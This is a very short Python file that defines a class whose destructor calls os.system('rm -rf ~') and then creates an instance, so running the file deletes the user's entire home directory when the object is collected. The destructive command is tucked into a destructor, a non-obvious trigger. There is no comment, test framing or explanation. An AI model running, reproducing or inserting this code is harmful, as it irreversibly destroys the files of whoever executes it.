import os

class X:
    def __del__(self):
        os.system('rm -rf ~')

X()
